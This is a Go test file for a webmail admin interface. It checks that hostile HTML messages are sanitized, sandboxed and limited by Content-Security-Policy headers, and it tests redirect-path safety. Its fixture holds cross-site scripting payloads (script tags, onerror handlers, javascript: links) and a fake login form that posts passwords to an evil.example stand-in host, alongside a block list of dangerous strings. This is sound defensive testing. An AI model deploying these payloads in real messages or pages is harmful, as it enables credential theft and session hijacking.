// msgHostile is a message that tries everything a message should not be
// able to do in the web admin; remote is the URL of a remote image.
func msgHostile(remote string) msgMail {
	return msgMail{From: "Mallory <mallory@evil.example>", To: "admin@example.com", Subject: "Hostile", Date: msgDay(5),
		HTML: `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
			`<script>document.title="PWNED";window.name="PWNED";try{parent.document.title="PWNED"}catch(e){};fetch("` + remote + `?script=1")</script>` +
			`<style>@import url("` + remote + `?css=1"); body{background:url("` + remote + `?bg=1")}</style></head>` +
			`<body onload="document.title='PWNED'"><p id="hello">Hello <b>reader</b></p>` +
			`<img src="` + remote + `" alt="remote picture">` +
			`<img src="cid:logo@test" alt="inline logo">` +
			`<img src="x" onerror="window.top.name='PWNED';parent.postMessage('PWNED','*')">` +
			`<a href="javascript:parent.document.title='PWNED'">click me</a>` +
			`<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>` +
			`<iframe src="https://evil.example/frame"></iframe>` +
			`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">` +
			`<svg onload="alert(1)"><script>alert(2)</script></svg>` +
			`<p style="position:fixed;top:0;background:url(javascript:alert(1))">styled</p>` +
			`</body></html>`,
		Inline: &msgPart{Name: "logo.png", Type: "image/png", ContentID: "logo@test", Data: msgPNG}}
}

func TestMessageHostileHTML(t *testing.T) {
	ts := newTestServer(t)
	f := mblSetup(t, ts)
	const remote = "http://127.0.0.1:9/pixel.png"
	id := msgImport(t, ts, f.alpha.ID, msgHostile(remote).raw())
	b := ts.signIn(t, "admin", servicetest.AdminPassword)
	view := "/messages/" + mblID(id)

	r := b.get(view)
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, `<iframe class="message-frame" sandbox="allow-popups allow-popups-to-escape-sandbox" src="/messages/`+mblID(id)+`/html"`,
		"Remote images are blocked (1).", `href="/messages/`+mblID(id)+`?remote=1">Show them</a>`)
	wantNoBody(t, r, "allow-scripts", "allow-same-origin", "PWNED", remote)

	dangerous := []string{"<script", "onload", "onerror", "javascript:", "<form", "<iframe", "http-equiv", "refresh", "<object",
		"<embed", "@import", "url(", "PWNED", "position:fixed", "evil.example"}
	r = b.get(view + "/html")
	wantStatus(t, r, http.StatusOK)
	if got := r.header.Get("Content-Security-Policy"); !strings.HasPrefix(got, "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline';") ||
		strings.Contains(got, "http:") || !strings.Contains(got, "frame-ancestors 'self'") {
		t.Errorf("CSP %q", got)
	}
	if got := r.header.Get("X-Frame-Options"); got != "SAMEORIGIN" {
		t.Errorf("X-Frame-Options %q", got)
	}
	wantBody(t, r, "<!doctype html>", `<p id="hello">Hello <b>reader</b></p>`, `alt="remote picture"`)
	lower := strings.ToLower(r.body)
	for _, bad := range append(dangerous, "127.0.0.1") {
		if strings.Contains(lower, strings.ToLower(bad)) {
			t.Errorf("the HTML holds %q:\n%s", bad, r.body)
		}
	}
	// The cid: image travels in the page (the sandboxed frame's requests
	// carry no session cookie); ?inline=1 shows an image attachment in place.
	wantBody(t, r, `<img src="data:image/png;base64,`+base64.StdEncoding.EncodeToString(msgPNG)+`" alt="inline logo">`)
	m, _ := ts.env.Service.Message(context.Background(), ts.env.Admin, id, service.MessageOptions{})
	if len(m.Attachments) != 1 {
		t.Fatalf("attachments %+v", m.Attachments)
	}
	img := b.get(view + "/attachments/" + mblID(m.Attachments[0].ID) + "?inline=1")
	if img.body != string(msgPNG) || img.header.Get("Content-Type") != "image/png" ||
		!strings.HasPrefix(img.header.Get("Content-Disposition"), "inline; filename=") || img.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("inline image: %v", img.header)
	}

	// Asked for, remote images come, and nothing else does.
	r = b.get(view + "/html?remote=1")
	if got := r.header.Get("Content-Security-Policy"); !strings.Contains(got, "img-src 'self' data: https: http:;") {
		t.Errorf("remote CSP %q", got)
	}
	wantBody(t, r, `src="`+remote+`"`)
	for _, bad := range dangerous {
		if strings.Contains(strings.ToLower(r.body), strings.ToLower(bad)) {
			t.Errorf("the remote HTML holds %q", bad)
		}
	}
	r = b.get(view + "?remote=1")
	wantBody(t, r, `src="/messages/`+mblID(id)+`/html?remote=1"`)
	wantNoBody(t, r, "Remote images are blocked")
}

// TestMessagePagesNoInlineScriptOrStyle keeps the list, the view and the
// confirmation within the app's CSP.
func TestMessagePagesNoInlineScriptOrStyle(t *testing.T) {
	ts := newTestServer(t)
	f := msgSetup(t, ts)
	hostile := msgImport(t, ts, f.alpha.ID, msgHostile("http://127.0.0.1:9/x.png").raw())
	b := ts.signIn(t, "admin", servicetest.AdminPassword)
	b.get("/messages/columns?col=subject&col=from&col=reply_to&col=to&col=cc&col=bcc&col=date&col=received&col=mailbox&col=size&col=spam&col=attachments&col=id&col=message_id")
	inline := regexp.MustCompile(`(?i)<script(?:\s[^>]*)?>[^<]|<style|\sstyle=|\son[a-z]+=`)
	pages := []result{
		b.get("/messages"),
		b.get("/messages?q=nothing"),
		b.get("/messages/" + mblID(f.report)),
		b.get("/messages/" + mblID(hostile)),
		b.get("/messages/" + mblID(f.news) + "/delete"),
		b.postForm("/messages/group", url.Values{"action": {"delete"}, "all": {"1"}}),
		b.follow(b.postForm("/messages/group", url.Values{"action": {"read"}, "id": {mblID(f.news)}})),
	}
	for i, r := range pages {
		if r.status != http.StatusOK {
			t.Errorf("page %d: status %d", i, r.status)
		}
		if m := inline.FindString(r.body); m != "" {
			t.Errorf("page %d has inline script or style: %q", i, m)
		}
	}
}

func TestQuoteBlocks(t *testing.T) {
	got := quoteBlocks("a\r\n> b\n> > c\n>>>>> e\nf")
	want := []quoteBlock{{0, "quote-0", "a"}, {1, "quote-1", "> b"}, {2, "quote-2", "> > c"}, {5, "quote-1", ">>>>> e"}, {0, "quote-0", "f"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("quoteBlocks = %v", got)
	}
	if got := humanSize("en", 812); got != "812 B" {
		t.Error(got)
	}
	if got := humanSize("ru", 4300); got != "4,2 КБ" { // Russian writes a decimal comma
		t.Error(got)
	}
	if got := safeMessagesBack("//evil.example"); got != "/messages" {
		t.Error(got)
	}
	for back, want := range map[string]string{"/messages/../logout": "/messages", "/messages?q=a..b": "/messages?q=a..b",
		"/messages/7?back=%2Fmessages%3Fq%3Da..b": "/messages/7?back=%2Fmessages%3Fq%3Da..b", "/messagesX": "/messages", "https://x/messages": "/messages"} {
		if got := safeMessagesBack(back); got != want {
			t.Errorf("safeMessagesBack(%q) = %q", back, got)
		}
	}
}
